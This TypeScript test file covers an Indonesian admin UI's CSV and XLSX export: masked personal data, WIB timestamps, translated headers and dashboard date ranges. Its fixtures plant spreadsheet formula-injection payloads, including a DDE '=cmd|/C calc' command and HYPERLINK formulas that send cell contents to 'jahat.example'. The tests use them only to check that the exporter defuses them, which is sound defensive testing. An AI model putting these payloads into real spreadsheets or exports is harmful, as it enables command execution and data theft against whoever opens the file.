import ExcelJS from 'exceljs';
import { i18nProvider } from '../admin-ui/src/i18n';
import { EXPORTS } from '../admin-ui/src/export/columns';
import { fileName, fmtWibDateTime, neutralise, toCsv, type ExportLookups } from '../admin-ui/src/export/format';
import { toXlsx } from '../admin-ui/src/export/xlsx';
import { dayRange, everyDay, lastDays } from '../admin-ui/src/dashboard/range';

const t = (k: string, o?: any) => i18nProvider.translate(k, o);
const lookups: ExportLookups = {
  account: (id) => (id === 'acc-1' ? 'Siti Aminah' : null),
  province: (code) => (code === '35' ? 'JAWA TIMUR' : null),
};
/** Parses the CSV the exporter writes (RFC 4180, quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const s = text.slice(1);
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endCell();
    else if (c === '\r' && s[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += c;
  }
  return rows;
}
const csv = (resource: string, records: any[]) => parseCsv(toCsv(EXPORTS[resource], records, t, lookups));
const column = (table: string[][], header: string) => {
  const i = table[0].indexOf(header);
  expect(i).toBeGreaterThanOrEqual(0);
  return table.slice(1).map((r) => r[i]);
};

const PLANTED = ['=HYPERLINK("http://x","klik")', '+62 SUM(1)', '-1+2', '@SUM(A1)', '\tTAB', '\rCR'];

describe('neutralise (OWASP CSV injection)', () => {
  it.each(PLANTED)('puts an apostrophe before a cell starting with a formula character: %j', (v) => {
    expect(neutralise(v)).toBe(`'${v}`);
  });
  it('leaves text alone when the character is not the first', () => {
    for (const v of ['a=1', ' =1', 'Budi-Santoso', 'x@y.id', "'sudah"]) expect(neutralise(v)).toBe(v);
  });
});

describe('WIB dates', () => {
  it('writes Jakarta wall-clock time, crossing midnight at 17:00 UTC', () => {
    expect(fmtWibDateTime('2026-12-04T16:59:00Z')).toBe('2026-12-04 23:59 WIB');
    expect(fmtWibDateTime('2026-12-04T17:00:00Z')).toBe('2026-12-05 00:00 WIB');
    expect(fmtWibDateTime(null)).toBe('');
  });
  it('names the file after the list and the WIB time', () => {
    expect(fileName('akun', 'csv', new Date('2026-12-04T17:05:00Z'))).toBe('akun-20261205-0005.csv');
  });
});

describe('each list exports the columns an officer reads', () => {
  beforeEach(() => i18nProvider.changeLocale('id'));

  it('accounts: Indonesian headers, masked values as given, province by name, WIB dates, no ids', () => {
    const table = csv('accounts', [
      {
        id: '6f1c2d3e-0000-4000-8000-000000000001',
        username: 'siti.aminah',
        fullName: '=cmd|/C calc!A0',
        nik: '3578••••••••0001',
        email: 's•••@contoh.id',
        phone: '+62•••••••1234',
        status: 'ACTIVE',
        provinceCode: '35',
        createdAt: '2026-12-04T17:30:00Z',
        __typename: 'Account',
      },
    ]);
    expect(table[0].slice(0, 6)).toEqual(['Nama pengguna', 'Nama', 'Badan usaha', 'NIK', 'Email', 'Telepon']);
    expect(table[0]).toContain('Provinsi');
    expect(column(table, 'Nama')).toEqual(["'=cmd|/C calc!A0"]);
    expect(column(table, 'NIK')).toEqual(['3578••••••••0001']);
    expect(column(table, 'Telepon')).toEqual(["'+62•••••••1234"]);
    expect(column(table, 'Provinsi')).toEqual(['JAWA TIMUR']);
    expect(column(table, 'Dibuat')).toEqual(['2026-12-05 00:30 WIB']);
    expect(column(table, 'Status')).toEqual(['Aktif']); // the word, not the code
    const flat = table.flat().join('|');
    expect(flat).not.toContain('6f1c2d3e');
    expect(flat).not.toContain('Account');
  });

  it('accounts in English: the same columns with English headers', async () => {
    await i18nProvider.changeLocale('en');
    const table = csv('accounts', [{ username: 'x', status: 'SUSPENDED' }]);
    expect(table[0].slice(0, 3)).toEqual(['Username', 'Name', 'Company']);
    expect(column(table, 'Status')).toEqual(['Suspended']);
    expect(table[0]).toContain('Province');
  });

  it('registrations: masked destination and the account by name', () => {
    const table = csv('registrations', [
      {
        reference: 'REF1',
        step: 'CODE_SENT',
        channel: 'EMAIL',
        maskedDestination: 'b•••@contoh.id',
        account: { id: 'acc-1', fullName: 'Budi' },
        messages: [{ status: 'SENT', providerStatus: 'DELIVERED' }],
        createdAt: '2026-12-01T00:00:00Z',
      },
    ]);
    expect(column(table, 'Tujuan kode')).toEqual(['b•••@contoh.id']);
    expect(column(table, 'Akun')).toEqual(['Budi']);
    expect(column(table, 'Pesan terakhir')).toEqual(['DELIVERED']);
    expect(column(table, 'Dimulai')).toEqual(['2026-12-01 07:00 WIB']);
  });

  it('complaints: assignee and account by name, a planted description defused, quotes and line breaks kept', () => {
    const table = csv('complaints', [
      {
        number: 'ADU-2026-000001',
        status: 'OPEN',
        reporterName: '@SUM(1+1)*cmd',
        reporterContact: '08••••••1234',
        description: 'Baris satu, "kutip"\nbaris dua',
        account: { id: 'acc-1', username: 'budi' },
        assignee: { id: 'st-1', username: 'helpdesk.ani' },
        overdue: true,
        satisfaction: { ikm: 81.25 },
        createdAt: '2026-12-04T01:00:00Z',
      },
    ]);
    expect(column(table, 'Pelapor')).toEqual(["'@SUM(1+1)*cmd"]);
    expect(column(table, 'Kontak pelapor')).toEqual(['08••••••1234']);
    expect(column(table, 'Akun')).toEqual(['budi']);
    expect(column(table, 'Petugas')).toEqual(['helpdesk.ani']);
    expect(column(table, 'Uraian')).toEqual(['Baris satu, "kutip"\nbaris dua']);
    expect(column(table, 'Terlambat')).toEqual(['Ya']);
    expect(column(table, 'IKM')).toEqual(['81.25']);
    expect(table.flat()).not.toContain('st-1');
  });

  it('email-change requests: the applicant-typed reason defused, the account by name, masked new email', () => {
    const table = csv('emailChangeRequests', [
      {
        id: 'ecr-1',
        status: 'OPEN',
        accountId: 'acc-1',
        newEmail: 'b•••@baru.id',
        source: 'SELF_SERVICE',
        reason: '=HYPERLINK("http://jahat.example/?x="&A1,"Klik")',
        createdAt: '2026-12-04T10:00:00Z',
      },
    ]);
    expect(column(table, 'Alasan')).toEqual(['\'=HYPERLINK("http://jahat.example/?x="&A1,"Klik")']);
    expect(column(table, 'Akun')).toEqual(['Siti Aminah']);
    expect(column(table, 'Email baru')).toEqual(['b•••@baru.id']);
    expect(column(table, 'Diajukan')).toEqual(['2026-12-04 17:00 WIB']);
    expect(table.flat()).not.toContain('ecr-1');
  });

  it('outbox: masked recipient, no message body, the account by name', () => {
    const table = csv('outboxMessages', [
      {
        id: 'm-1',
        channel: 'WHATSAPP',
        recipient: '+62•••••••1234',
        template: 'registration_code',
        subject: null,
        body: 'Kode verifikasi pendaftaran Hak Akses OSS Anda: 123456',
        status: 'SENT',
        attempts: 1,
        accountId: 'acc-1',
        createdAt: '2026-12-04T23:00:00Z',
      },
    ]);
    expect(column(table, 'Penerima')).toEqual(["'+62•••••••1234"]);
    expect(column(table, 'Akun')).toEqual(['Siti Aminah']);
    expect(column(table, 'Dibuat')).toEqual(['2026-12-05 06:00 WIB']);
    expect(table[0]).not.toContain('Isi');
    expect(table.flat().join('|')).not.toContain('123456');
  });

  it('audit: details in words as on screen (staff by name, codes as words, WIB times), the account by name', () => {
    const rows = [
      {
        id: 'ev-1',
        at: '2026-12-04T00:00:00Z',
        action: 'EMAIL_CHANGE_REQUESTED',
        actorType: 'PUBLIC',
        accountId: 'acc-1',
        ip: '-1+1',
        details: { reason: '=1+1' },
      },
      {
        id: 'ev-2',
        at: '2026-12-04T00:00:00Z',
        action: 'COMPLAINT_ASSIGNED',
        actorType: 'STAFF',
        details: { to: 'IN_PROGRESS', from: 'OPEN', assigneeId: 'st-1', date: '2026-12-04T01:30:00Z' },
        staffNames: { 'st-1': 'helpdesk.ani' },
      },
    ];
    const table = csv('auditEvents', rows);
    expect(column(table, 'Akun')).toEqual(['Siti Aminah', '']);
    expect(column(table, 'IP')).toEqual(["'-1+1", '']);
    expect(column(table, 'Waktu')).toEqual(['2026-12-04 07:00 WIB', '2026-12-04 07:00 WIB']);
    const [planted, assigned] = column(table, 'Rincian');
    expect(planted).toBe(`${t('enums.AuditDetail.reason')}: =1+1`);
    expect(assigned).toBe(
      [
        `${t('enums.AuditDetail.from')}: ${t('enums.ComplaintStatus.OPEN')}`,
        `${t('enums.AuditDetail.to')}: ${t('enums.ComplaintStatus.IN_PROGRESS')}`,
        `${t('enums.AuditDetail.assigneeId')}: helpdesk.ani`,
        `${t('enums.AuditDetail.date')}: 2026-12-04 08:30 WIB`,
      ].join(' · '),
    );
    expect(assigned).not.toMatch(/st-1|IN_PROGRESS|T01:30/);
    // A detail that would itself start a formula is defused like any cell.
    const bare = csv('auditEvents', [{ ...rows[0], details: '=HYPERLINK("x")' }]);
    expect(column(bare, 'Rincian')).toEqual([`'=HYPERLINK("x")`]);
  });

  it('data requests: the applicant-typed details and the decision defused, WIB deadline, no ids or export link', () => {
    const table = csv('dataSubjectRequests', [
      {
        id: 'dsr-1',
        number: 'PDP-2026-000007',
        kind: 'CORRECTION',
        status: 'IN_PROGRESS',
        via: 'SELF_SERVICE',
        details: '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")',
        accountId: 'acc-1',
        account: { id: 'acc-1', username: 's•••a' },
        assignee: { id: 'st-1', username: 'helpdesk.ani' },
        createdAt: '2026-12-01T03:00:00Z',
        dueAt: '2026-12-04T17:00:00Z',
        overdue: false,
        reason: '-dipenuhi sebagian',
        export: { status: 'WAITING', expiresAt: '2026-12-05T00:00:00Z' },
        __typename: 'DataSubjectRequest',
      },
    ]);
    expect(table[0].slice(0, 3)).toEqual(['Nomor', 'Status', 'Jenis hak']);
    expect(column(table, 'Uraian')).toEqual(['\'=HYPERLINK("http://jahat.example/?d="&A1,"Klik")']);
    expect(column(table, 'Keputusan')).toEqual(["'-dipenuhi sebagian"]);
    expect(column(table, 'Jenis hak')).toEqual(['Perbaikan data']);
    expect(column(table, 'Diajukan lewat')).toEqual(['Pemohon sendiri']);
    expect(column(table, 'Akun')).toEqual(['s•••a']);
    expect(column(table, 'Petugas')).toEqual(['helpdesk.ani']);
    expect(column(table, 'Batas waktu')).toEqual(['2026-12-05 00:00 WIB']);
    expect(column(table, 'Diajukan')).toEqual(['2026-12-01 10:00 WIB']);
    expect(column(table, 'Terlambat')).toEqual(['Tidak']);
    const flat = table.flat().join('|');
    for (const hidden of ['dsr-1', 'acc-1', 'st-1', 'WAITING', 'DataSubjectRequest'])
      expect(flat).not.toContain(hidden);
  });

  it('staff: role and unit in words, yes/no, WIB last login, no ids; written from the rows the list holds', () => {
    expect(EXPORTS.staffUsers.loaded).toBe(true);
    const table = csv('staffUsers', [
      {
        id: 'st-1',
        username: 'helpdesk.ani',
        role: 'SUPERVISOR',
        active: false,
        totpEnabled: true,
        lastLoginAt: '2026-12-04T17:30:00Z',
        demo: false,
        passwordChangeRequired: true,
        unit: { id: 'u-1', name: 'DPMPTSP Kabupaten Kampar' },
        __typename: 'StaffUser',
      },
    ]);
    expect(table[0]).toEqual([
      'Nama pengguna',
      'Peran',
      'Unit layanan',
      'Aktif',
      'TOTP',
      'Terakhir masuk',
      'Pengguna demo',
      'Kata sandi sekali pakai belum diganti',
    ]);
    expect(table[1]).toEqual([
      'helpdesk.ani',
      'Supervisor',
      'DPMPTSP Kabupaten Kampar',
      'Tidak',
      'Ya',
      '2026-12-05 00:30 WIB',
      'Tidak',
      'Ya',
    ]);
    expect(table.flat().join('|')).not.toMatch(/st-1|u-1|StaffUser/);
  });

  it('canned responses: title and text defused (a supervisor types them), offered as a word', () => {
    const table = csv('responseTemplates', [{ id: 't-1', title: '@SUM(A1)', body: '=1+1\nbaris dua', active: true }]);
    expect(table[0]).toEqual(['Judul', 'Teks balasan', 'Ditawarkan']);
    expect(table[1]).toEqual(["'@SUM(A1)", "'=1+1\nbaris dua", 'Ya']);
  });

  it('service units: region code and name, national as a word', () => {
    const table = csv('serviceUnits', [
      { id: 'u-0', name: 'Helpdesk OSS Nasional', regionCode: null, regionName: null, national: true },
      {
        id: 'u-1',
        name: 'DPMPTSP Kabupaten Kampar',
        regionCode: '1406',
        regionName: 'KABUPATEN KAMPAR',
        national: false,
      },
    ]);
    expect(table[0]).toEqual(['Nama unit', 'Kode wilayah', 'Wilayah', 'Nasional']);
    expect(table.slice(1)).toEqual([
      ['Helpdesk OSS Nasional', '', '', 'Ya'],
      ['DPMPTSP Kabupaten Kampar', '1406', 'KABUPATEN KAMPAR', 'Tidak'],
    ]);
  });

  it('outreach events: the local date and times with their zone, officers by name, the counts', () => {
    const table = csv('outreachEvents', [
      {
        id: 'e-1',
        date: '2026-12-10',
        startTime: '08:00',
        endTime: '12:00',
        timeZone: 'Asia/Makassar',
        villageCode: '7371010001',
        villageName: 'MARISO',
        unitName: 'DPMPTSP Kota Makassar',
        officerNames: ['petugas.a', 'petugas.b'],
        targetCount: 40,
        report: { started: 12, completed: 9, abandoned: 2, inProgress: 1 },
      },
    ]);
    expect(table[0]).toEqual([
      'Tanggal',
      'Jam mulai',
      'Jam selesai',
      'Zona waktu',
      'Kelurahan/desa',
      'Unit layanan',
      'Petugas',
      'Target pendaftaran',
      'Dimulai',
      'Selesai',
      'Ditinggalkan',
      'Berjalan',
    ]);
    expect(table[1]).toEqual([
      '2026-12-10',
      '08:00',
      '12:00',
      'Asia/Makassar',
      'MARISO',
      'DPMPTSP Kota Makassar',
      'petugas.a, petugas.b',
      '40',
      '12',
      '9',
      '2',
      '1',
    ]);
  });

  it('quotes a value holding a semicolon or tab, so a spreadsheet splitting on ";" keeps it in one defused cell', () => {
    const text = toCsv(
      EXPORTS.serviceUnits,
      [{ name: "Salam;=cmd|' /C calc'!A0", regionName: 'a\tb', national: false }],
      t,
      lookups,
    );
    const line = text.split('\r\n')[1];
    expect(line.startsWith('"Salam;=cmd|\' /C calc\'!A0",')).toBe(true);
    expect(line).toContain(',"a\tb",');
  });

  it('every export spec has a translated header for every column in both languages', async () => {
    for (const locale of ['id', 'en']) {
      await i18nProvider.changeLocale(locale);
      for (const spec of Object.values(EXPORTS)) {
        for (const c of spec.columns) expect([spec.resource, t(c.label)]).not.toEqual([spec.resource, c.label]);
      }
    }
  });
});

describe('XLSX (accounts, complaints, audit)', () => {
  it('offers XLSX for exactly those three lists', () => {
    expect(
      Object.values(EXPORTS)
        .filter((s) => s.xlsx)
        .map((s) => s.resource)
        .sort(),
    ).toEqual(['accounts', 'auditEvents', 'complaints']);
  });

  it('writes headers, WIB wall-clock date cells and defused text that Excel reads back', async () => {
    await i18nProvider.changeLocale('id');
    const bytes = await toXlsx(
      EXPORTS.complaints,
      [{ number: 'ADU-1', reporterName: '=1+1', createdAt: '2026-12-04T17:30:00Z', satisfaction: { ikm: 75 } }],
      t,
      lookups,
    );
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(bytes) as any);
    const sheet = book.worksheets[0];
    const header = (sheet.getRow(1).values as any[]).slice(1);
    expect(header[0]).toBe('Nomor');
    const cell = (name: string) => sheet.getRow(2).getCell(header.indexOf(name) + 1);
    expect(cell('Pelapor').value).toBe("'=1+1");
    expect(cell('Pelapor').formula).toBeUndefined();
    expect((cell('Dicatat').value as Date).toISOString()).toBe('2026-12-05T00:30:00.000Z');
    expect(cell('Dicatat').numFmt).toContain('WIB');
    expect(cell('IKM').value).toBe(75);
  });
});

describe('dashboard days', () => {
  it('end with today in WIB, also just after midnight WIB (17:00 UTC)', () => {
    const now = Date.parse('2026-12-04T17:00:00Z'); // 00:00 on 5 December in Jakarta
    const r = lastDays(7, now);
    expect(r.to.toISOString()).toBe('2026-12-05T17:00:00.000Z');
    expect(r.from.toISOString()).toBe('2026-11-28T17:00:00.000Z');
    const just = lastDays(7, now - 1);
    expect(just.to.toISOString()).toBe('2026-12-04T17:00:00.000Z');
  });

  it('have a point for every day, zero where the server had no bucket, the last one today', () => {
    const r = lastDays(3, Date.parse('2026-12-04T05:00:00Z'));
    const days = everyDay(r, [{ start: '2026-12-02T17:00:00Z', n: 5 }], (start) => ({
      start: start.toISOString(),
      n: 0,
    }));
    expect(days.map((d) => [new Date(d.start).toISOString(), d.n])).toEqual([
      ['2026-12-01T17:00:00.000Z', 0],
      ['2026-12-02T17:00:00.000Z', 5],
      ['2026-12-03T17:00:00.000Z', 0],
    ]);
  });

  it('take a custom range of WIB days, both ends included', () => {
    const r = dayRange('2026-11-01', '2026-11-30');
    expect([r.from.toISOString(), r.to.toISOString()]).toEqual([
      '2026-10-31T17:00:00.000Z',
      '2026-11-30T17:00:00.000Z',
    ]);
  });
});
